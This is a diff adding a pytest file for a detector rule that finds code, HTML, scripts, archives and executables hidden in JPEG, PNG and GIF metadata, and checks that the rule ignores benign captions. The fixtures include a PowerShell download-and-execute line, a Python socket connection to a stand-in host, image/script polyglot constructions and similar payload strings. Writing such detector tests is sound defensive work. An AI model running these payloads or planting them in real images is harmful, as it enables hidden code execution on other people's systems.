@@ -1,0 +1,270 @@
+"""Code, scripts and pages in pictures: what `embedded-payload` finds of them, and what is only about them."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+from typing import TYPE_CHECKING
+
+import numpy as np
+import pytest
+from PIL import Image
+
+from corrupt_samples.encode import encode, exif, jpeg, jpeg_segment, png, profile, tiff
+from corrupt_samples.payloads import ALL, HTML, PHP, SCRIPT, SHELL
+from corrupt_samples.pictures import photo
+from corrupt_samples.surgery import jpeg_patched
+from sanitize.probe import payload_text
+from tests.embedding import APP0, APP1, APP13, COM, XMP, places, with_chunk, with_segment
+
+if TYPE_CHECKING:
+    from tests.conftest import Fired
+
+RULE = "embedded-payload"
+
+
+def test_finds_code_in_comments_and_metadata_of_a_jpeg(fired: Fired) -> None:
+    data = Image.Exif()
+    data[0x13B] = PHP.decode()  # the artist
+    files = {
+        "com.jpg": jpeg(photo("a"), comment=PHP),
+        "upper.jpg": jpeg(photo("a"), comment=PHP.replace(b"php", b"PHP")),
+        "short.jpg": jpeg(photo("a"), comment=b"<?=print(1)?>"),
+        "shorter.jpg": jpeg(photo("a"), comment=b"<?=`$a[0]`?>"),
+        "variable.jpg": jpeg(photo("a"), comment=b"<? $a ?>"),
+        "html.jpg": jpeg(photo("a"), comment=b"<html><body>nothing</body></html>"),
+        "script.jpg": jpeg(photo("a"), comment=SCRIPT),
+        "handler.jpg": jpeg(photo("a"), comment=b"<img src=x onerror=print(1)>"),
+        "open.jpg": jpeg(photo("a"), comment=b"<script>print(1)//"),
+        "source.jpg": jpeg(photo("a"), comment=b"<SCRIPT SRC=//example.org/a.js>"),
+        "shell.jpg": jpeg(photo("a"), comment=b"\n" + SHELL),
+        "artist.jpg": jpeg(photo("a"), exif=data),
+        "xmp.jpg": with_segment(APP1, XMP + b"<x:xmpmeta><rdf:RDF>" + PHP + b"</rdf:RDF></x:xmpmeta>"),
+        "iptc.jpg": with_segment(APP13, b"Photoshop 3.0\x008BIM\4\4\0\0\0\0\0\x36\x1c\2\x78\0\x31" + HTML + b"\0"),
+        "app9.jpg": with_segment(0xE9, b"note " + PHP),
+        "icc.jpg": jpeg(photo("a"), icc_profile=profile(PHP.decode())),
+        "gzip.jpg": jpeg(photo("a"), comment=ALL["gzip"]),
+        "elf.jpg": with_segment(0xE8, ALL["elf"]),
+    }
+    assert places(fired(RULE, files)) == {
+        "com.jpg": "PHP code in the comment of the JPEG",
+        "upper.jpg": "PHP code in the comment of the JPEG",
+        "short.jpg": "PHP code in the comment of the JPEG",
+        "shorter.jpg": "PHP code in the comment of the JPEG",
+        "variable.jpg": "PHP code in the comment of the JPEG",
+        "html.jpg": "an HTML page in the comment of the JPEG",
+        "script.jpg": "a script in HTML in the comment of the JPEG",
+        "handler.jpg": "a script in HTML in the comment of the JPEG",
+        "open.jpg": "a script in HTML in the comment of the JPEG",
+        "source.jpg": "a script in HTML in the comment of the JPEG",
+        "shell.jpg": "a script with an interpreter line in the comment of the JPEG",
+        "artist.jpg": "PHP code in the EXIF data of the JPEG",
+        "xmp.jpg": "PHP code in the XMP data of the JPEG",
+        "iptc.jpg": "an HTML page in the APP13 of the JPEG",
+        "app9.jpg": "PHP code in the APP9 of the JPEG",
+        "icc.jpg": "PHP code in the ICC profile of the JPEG",
+        "gzip.jpg": "a gzip archive in the comment of the JPEG",
+        "elf.jpg": "a Linux program in the APP8 of the JPEG",
+    }
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
+        ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
+        ("Python code", b"\nimport os, sys\nos.system('id')\n"),
+        ("Python code", b"import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\n"),
+        ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
+    ],
+)
+def test_finds_code_without_a_tag_after_the_end_and_where_it_is_all_of_a_text(
+    fired: Fired, name: str, code: bytes
+) -> None:
+    files = {
+        "a.jpg": jpeg(photo("a")) + code,
+        "a.png": png(photo("a")) + code,
+        "comment.jpg": jpeg(photo("a"), comment=code),
+        "comment.gif": encode(photo("a"), "GIF", comment=code),
+        "text.png": with_chunk(b"tEXt", b"Comment\0" + code),
+        "packed.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(code)),
+        "utf8.png": with_chunk(b"iTXt", b"Comment\0\0\0\0\0" + code),
+    }
+    assert places(fired(RULE, files)) == {
+        "a.jpg": f"{name} after the end of the JPEG",
+        "a.png": f"{name} after the end of the PNG",
+        "comment.jpg": f"{name} in the comment of the JPEG",
+        "comment.gif": f"{name} in the comment of the GIF",
+        "text.png": f"{name} in the chunk tEXt of the PNG",
+        "packed.png": f"{name} in the chunk zTXt of the PNG",
+        "utf8.png": f"{name} in the chunk iTXt of the PNG",
+    }
+
+
+# What people and programs write beside pictures, plots and diagrams.
+_SAID = [
+    b"Bulb removed\nfrom socket, broken",
+    b"This picture was decoded\nfrom base64 on a Sunday",
+    b"import sys\nimport numpy as np\nimport matplotlib.pyplot as plt\nplt.plot(x)\nplt.savefig('a.png')",
+    b"Plot of eval(loss) vs. epoch, and alert(s) in red",
+    b"Fig. 3: document.cookie stolen; the browser shows alert(1), and window.location and document.location",
+    b"@startuml\nBrowser -> Server: document.cookie\n@enduml",
+    b"graph of require('fs') dependencies",
+    b"Screenshot of PowerShell: how to use Invoke-WebRequest in Windows 11",
+    b"IEX (Indian Energy Exchange) price chart",
+    b'made by macro CreateObject("Excel.Application") chart export',
+    b"Mean over os.system calls\nimport os grid reference",
+]
+
+
+def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
+    workflow = b'{"nodes": [{"type": "script", "text": "eval(x)", "code": "document.body"}],\n "import": "os"}'
+    page = b"[page]\nscript = eval(page)\n"
+    prompt = b"a robot that wants to import os, and evaluates (sys) its windows, document style, 4k"
+    files = {
+        "workflow.png": with_chunk(b"tEXt", b"workflow\0" + workflow),
+        "packed.png": with_chunk(b"zTXt", b"workflow\0\0" + zlib.compress(workflow)),
+        "settings.jpg": jpeg(photo("a"), comment=page),
+        "prompt.png": with_chunk(b"tEXt", b"parameters\0" + prompt),
+        "prompt.gif": encode(photo("a"), "GIF", comment=prompt),
+        **{f"{number}.jpg": jpeg(photo("a"), comment=said) for number, said in enumerate(_SAID)},
+        **{f"{number}.png": with_chunk(b"tEXt", b"Source\0" + said) for number, said in enumerate(_SAID)},
+    }
+    assert fired(RULE, files) == {}
+
+
+def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
+    found = payload_text.markup(PHP + b"VV", 0, len(PHP))
+    assert found is not None
+    assert found.detail == f"`{PHP.decode()}`"
+
+
+def test_is_silent_about_dark_pixels_which_are_signs_in_any_order(fired: Fired) -> None:
+    chance = np.random.default_rng(0)
+    dark = [Image.fromarray(chance.normal(62, spread, (120, 120, 3)).astype(np.uint8)) for spread in (2, 6, 15)]
+    files = {
+        f"{number}.{extension}": encode(picture, kind)
+        for number, picture in enumerate(dark)
+        for kind, extension in (("BMP", "bmp"), ("PPM", "ppm"), ("TGA", "tga"), ("TIFF", "tif"))
+    }
+    assert fired(RULE, files) == {}
+
+
+def test_is_silent_about_prose_after_the_end(fired: Fired) -> None:
+    prose = (
+        b"Taken from the window. To import a system of my own, I alert everybody; see document 7 (location unknown)."
+    )
+    assert fired(RULE, {"a.jpg": jpeg(photo("a")) + prose}) == {}
+
+
+def test_finds_code_in_chunks_of_a_png(fired: Fired) -> None:
+    files = {
+        "tEXt.png": with_chunk(b"tEXt", b"Comment\0" + PHP),
+        "zTXt.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)),
+        "iTXt.png": with_chunk(b"iTXt", b"Comment\0\0\0en\0\0" + SCRIPT),
+        "packed.png": with_chunk(b"iTXt", b"Comment\0\1\0en\0Note\0" + zlib.compress(PHP)),
+        "shell.png": with_chunk(b"tEXt", b"Comment\0" + SHELL),
+        "unknown.png": with_chunk(b"hiDe", PHP),
+        "zip.png": with_chunk(b"hiDe", ALL["zip"]),
+        "elf.png": with_chunk(b"hiDe", ALL["elf"]),
+        "eXIf.png": png(photo("a"), exif=exif(1) + PHP),
+    }
+    assert places(fired(RULE, files)) == {
+        "tEXt.png": "PHP code in the chunk tEXt of the PNG",
+        "zTXt.png": "an HTML page in the chunk zTXt of the PNG",
+        "iTXt.png": "a script in HTML in the chunk iTXt of the PNG",
+        "packed.png": "PHP code in the chunk iTXt of the PNG",
+        "shell.png": "a script with an interpreter line in the chunk tEXt of the PNG",
+        "unknown.png": "PHP code in the chunk hiDe of the PNG",
+        "zip.png": "a ZIP archive in the chunk hiDe of the PNG",
+        "elf.png": "a Linux program in the chunk hiDe of the PNG",
+        "eXIf.png": "PHP code in the chunk eXIf of the PNG",
+    }
+
+
+def test_finds_images_that_are_scripts_too(fired: Fired) -> None:
+    picture = photo("a")
+    code = b"*/=1;console.log(1);//"
+    animation = encode(picture, "GIF")
+    bitmap = encode(picture, "BMP")
+    drawn = jpeg(picture)
+    frame = b"\xff\xd8\xff\xe0/*" + drawn[6:20] + bytes(0x2F2A - 16)
+    files = {
+        "a.gif": animation[:6] + b"/*" + animation[8:] + code,
+        "a.bmp": bitmap[:2] + b"/*" + bitmap[4:] + code,
+        "a.jpg": frame + jpeg_segment(COM, b"*/=1;console.log(1)/*") + drawn[20:-2] + b"\xff\xd9",
+    }
+    assert places(fired(RULE, files)) == {
+        "a.gif": "JavaScript after the end of the GIF",
+        "a.bmp": "JavaScript after the end of the BMP",
+        "a.jpg": "JavaScript in the comment of the JPEG",
+    }
+
+
+def test_is_silent_about_ordinary_comments(fired: Fired) -> None:
+    comments = [
+        b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 80\n",
+        b"Optimized by JPEGmini 3.9.20.0L Internal 0xbc7a1e2f",
+        b"File source: https://example.org/wiki/File:A.jpg",
+        b'<a href="https://example.org/?a=1&b=2">A photo</a>, <b>2009</b>',
+        b"Created with GIMP",
+        b"Lavc58.54.100",
+        b"AppleMark\n",
+        b"<CREATOR: XV Version 3.10a Rev: 12/29/94 Quality = 75, Smoothing = 0>",
+        b"# a heading, and !important",
+        b"#!",
+        b"if a < b and b > c: print(a)",
+        b"<script",
+        b"How to use <?php in HTML",
+        b"Learn <html> and <!DOCTYPE html> in ten days",
+        b"A <script> or an <iframe> may hide in a picture",
+        b"<% of the whole, <?> and <? of what ?>",
+        b"PK",
+        b"MZ is how it begins",
+        b"Rar!",
+        b"\xff\xd9",
+        "<héros> & « café »".encode(),
+        b"<title>not a page</title>",
+        b"x" * 20_000,
+    ]
+    files = {f"{number}.jpg": jpeg(photo("a"), comment=comment) for number, comment in enumerate(comments)}
+    assert fired(RULE, files) == {}
+
+
+def test_is_silent_about_pages_that_xmp_data_tell_of(fired: Fired) -> None:
+    inside = [
+        b"&lt;html&gt;&lt;script&gt;x()&lt;/script&gt;",
+        b"<![CDATA[<html><body>A caption</body></html>]]>",
+        b"<html xmlns='http://www.w3.org/1999/xhtml'>rich text</html>",
+        base64.b64encode(jpeg(photo("b")) + HTML),
+    ]
+    packet = (
+        b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+        b"<rdf:RDF><rdf:Description>%s</rdf:Description></rdf:RDF></x:xmpmeta>" + b" " * 2000 + b'<?xpacket end="w"?>'
+    )
+    files = {f"{number}.jpg": with_segment(APP1, XMP + packet % text) for number, text in enumerate(inside)}
+    files |= {
+        f"{number}.png": with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet % text)
+        for number, text in enumerate(inside)
+    }
+    assert fired(RULE, files) == {}
+
+
+def test_a_c_comment_is_how_an_x_pixmap_begins(fired: Fired) -> None:
+    pixmap = (
+        b'/* XPM */\nstatic char *a[] = {\n"2 2 2 1",\n"a c #000000",\n"b c #FFFFFF",\n/* pixels */\n"ab",\n"ba"};\n'
+    )
+    files = {"a.xpm": pixmap, "a.xbm": encode(photo("a").convert("1", dither=0), "XBM")}
+    assert fired(RULE, files) == {}
+
+
+def test_a_picture_full_of_less_than_signs_is_only_a_picture(fired: Fired) -> None:
+    grey = Image.new("L", (900, 900), ord("<"))
+    assert fired(RULE, {"a.bmp": encode(grey, "BMP"), "a.pgm": encode(grey, "PPM"), "a.tif": tiff(grey)}) == {}
+    assert fired(RULE, {"b.pgm": encode(grey, "PPM") + PHP}).keys() == {"b.pgm"}
+
+
+def test_a_width_that_reads_as_a_comment_is_only_a_width(fired: Fired) -> None:
+    animation = encode(photo("a"), "GIF")
+    files = {"a.gif": animation[:6] + b"/*" + animation[8:], "a.jpg": jpeg_patched(jpeg(photo("a")), APP0, 11, b"\1\2")}
+    assert fired(RULE, files) == {}
